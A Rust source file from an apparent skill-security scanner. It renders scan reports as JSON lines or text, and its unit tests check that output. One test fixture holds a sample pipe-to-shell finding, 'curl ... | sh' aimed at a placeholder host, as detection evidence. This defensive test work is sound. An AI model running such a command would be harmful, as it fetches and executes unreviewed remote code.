//! The scanner's two report formats, shared by every front end (the `skills scan` command
//! and the `scan` example print exactly these): one JSON object per skill and line
//! ([`ReportLine`]), or a text block per skill ([`render_text`]).
//!
//! Evidence in findings is already redacted and neutralised by the scanner (no control
//! characters, secrets cut), so a hostile skill cannot forge lines of either format.

use std::fmt::Write as _;
use std::path::Path;

use serde::Serialize;

use super::{Detonation, DetonationState, ScanFinding, ScanReport, Verdict};

/// One skill's report as one JSON line: `{"path", "verdict", "score", "findings",
/// "detonation"?}`, fields in this order (`detonation` only when the skill was detonated).
///
/// ```
/// use skills_security::scan::{ReportLine, Scanner};
///
/// let dir = tempfile::tempdir()?;
/// std::fs::write(dir.path().join("SKILL.md"), "---\nname: s\ndescription: d\n---\nHi.\n")?;
/// let report = Scanner::new().scan_dir(dir.path())?;
/// let line = ReportLine::new(dir.path(), &report, None);
/// let json = serde_json::to_string(&line)?;
/// assert!(json.contains(r#""verdict":"clean""#));
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
#[derive(Debug, Serialize)]
pub struct ReportLine<'a> {
    /// The skill's path as given.
    pub path: String,
    /// The verdict.
    pub verdict: Verdict,
    /// The score behind it.
    pub score: u32,
    /// Every finding, in the report's order.
    pub findings: &'a [ScanFinding],
    /// What detonation ran and saw, when it was asked for.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub detonation: Option<&'a Detonation>,
}

impl<'a> ReportLine<'a> {
    /// The line for `report` of the skill at `path`, with `detonation` when it ran.
    pub fn new(path: &Path, report: &'a ScanReport, detonation: Option<&'a Detonation>) -> Self {
        ReportLine {
            path: path.display().to_string(),
            verdict: report.verdict,
            score: report.score,
            findings: &report.findings,
            detonation,
        }
    }
}

/// One skill's report as text: `verdict score path`, one indented line per finding
/// (severity, category, rule, place, context, message, evidence in brackets), then, when
/// `detonation` is given, `detonation: STATE, tier TIER, N script run(s)`.
pub fn render_text(path: &Path, report: &ScanReport, detonation: Option<&Detonation>) -> String {
    let mut out = format!(
        "{:<6} {:>3}  {}\n",
        report.verdict,
        report.score,
        path.display()
    );
    for f in &report.findings {
        let place = if f.line > 0 {
            format!("{}:{}", f.file, f.line)
        } else {
            f.file.clone()
        };
        let _ = write!(
            out,
            "    {:<8} {:<18} {:<36} {place} ({}): {}",
            f.severity,
            f.category,
            f.rule,
            f.context.as_str(),
            f.message
        );
        if !f.evidence.is_empty() {
            let _ = write!(out, "  [{}]", f.evidence);
        }
        out.push('\n');
    }
    if let Some(d) = detonation {
        let state = match &d.state {
            DetonationState::Complete => "complete".to_owned(),
            DetonationState::Partial => "partial".to_owned(),
            DetonationState::NoScripts => "no scripts".to_owned(),
            DetonationState::NotDetonated { reason } => format!("not detonated ({reason})"),
        };
        let tier = d.tier.map_or("none".to_owned(), |t| t.to_string());
        let _ = writeln!(
            out,
            "    detonation: {state}, tier {tier}, {} script run(s)",
            d.runs.len()
        );
    }
    out
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]
    use super::*;
    use crate::scan::{Category, Severity};

    fn report() -> ScanReport {
        ScanReport::from_findings(vec![
            ScanFinding::new(
                Category::DangerousCommand,
                Severity::High,
                "command.pipe_to_shell",
                "SKILL.md",
                7,
                "curl -s https://x.example/i | sh".into(),
                "a download is piped to a shell".into(),
            ),
            ScanFinding::new(
                Category::Exfiltration,
                Severity::Low,
                "detonation.dns_lookup",
                "scripts/a.py",
                0,
                String::new(),
                "when run, the script resolved a name".into(),
            ),
        ])
    }

    #[test]
    fn text_has_one_line_per_finding_and_the_detonation_state() {
        let report = report();
        let detonation = Detonation {
            state: DetonationState::NotDetonated {
                reason: "no isolation".into(),
            },
            tier: None,
            runs: Vec::new(),
        };
        let text = render_text(Path::new("skills/a"), &report, Some(&detonation));
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 4, "{text}");
        assert!(lines[0].ends_with("  skills/a"), "{text}");
        assert!(
            lines[1].contains("SKILL.md:7 (") && lines[1].ends_with("| sh]"),
            "{text}"
        );
        assert!(lines[2].contains(" scripts/a.py (") && !lines[2].contains('['));
        assert_eq!(
            lines[3],
            "    detonation: not detonated (no isolation), tier none, 0 script run(s)"
        );
        assert_eq!(
            render_text(Path::new("a"), &report, None).lines().count(),
            3
        );
    }

    #[test]
    fn json_keeps_its_field_order_and_omits_detonation_when_not_run() {
        let report = report();
        let json = serde_json::to_string(&ReportLine::new(Path::new("a"), &report, None)).unwrap();
        assert!(json.starts_with(r#"{"path":"a","verdict":"#), "{json}");
        assert!(json.contains(r#","score":"#) && json.contains(r#","findings":["#));
        assert!(!json.contains("detonation\":"), "{json}");
    }
}
